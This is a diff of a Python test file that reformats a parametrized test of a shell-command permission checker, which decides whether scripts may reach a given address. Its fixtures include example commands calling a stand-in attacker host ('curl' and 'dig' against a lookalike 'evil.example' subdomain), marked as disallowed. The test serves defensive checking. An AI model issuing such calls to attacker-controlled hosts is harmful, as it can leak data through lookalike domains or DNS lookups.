@@ -129,7 +129,13 @@ def test_a_script_gets_a_value_only_if_all_its_hosts_stood_with_it(script: str, 
 
 @pytest.mark.parametrize(
     ("script", "allowed"),
-    [(f"ping {A}", True), (f"ssh root@{A}", True), (f"curl http://{A}/x", True), (f"curl http://{A}.evil.example/", False), (f"dig {A}.evil.example", False)],
+    [
+        (f"ping {A}", True),
+        (f"ssh root@{A}", True),
+        (f"curl http://{A}/x", True),
+        (f"curl http://{A}.evil.example/", False),
+        (f"dig {A}.evil.example", False),
+    ],
 )
 def test_an_address_may_be_reached(script: str, allowed: bool) -> None:
     assert call_allows("shell", script, MAPPING, "same_host") == ({ADDRESS} if allowed else set())
